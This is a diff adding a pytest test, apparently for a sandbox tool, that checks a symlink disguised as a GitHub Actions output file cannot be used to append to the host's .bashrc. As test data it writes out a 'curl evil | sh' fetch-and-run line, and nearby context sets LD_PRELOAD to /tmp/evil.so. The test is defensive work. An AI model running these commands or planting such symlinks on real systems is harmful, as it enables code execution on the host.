@@ -133,3 +133,22 @@ def test_allow_write_of_the_env_file_itself_opens_it(senv):
     assert done.returncode == 0, done.stderr
     assert files["GITHUB_ENV"] == "LD_PRELOAD=/tmp/evil.so\n" and files["GITHUB_PATH"] == ""
     assert "sandbox: weakened: --allow-write: filesystem.writable: added" in done.stderr
+
+
+def test_a_runner_shaped_symlink_opens_nothing(senv):
+    """set_output_<id> in the right directory, but a symlink to a host file."""
+    gh = Runner(senv)
+    rc = senv.home / ".bashrc"
+    rc.write_text("# host shell start-up\n")
+    link = gh.commands / "set_output_0123"
+    link.symlink_to(rc)
+    (gh.temp / "s.sh").write_text(f'echo "curl evil | sh" >> "$GITHUB_OUTPUT" || echo refused\n')
+    senv.finish()
+    import subprocess
+
+    env = senv.environ(GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(link))
+    done = subprocess.run(senv.who.prefix() + [sandbox_exe(), "run", "--", "bash", "-e",
+                                                str(gh.temp / "s.sh")],
+                          cwd=gh.repo, env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert "refused" in done.stdout and rc.read_text() == "# host shell start-up\n"
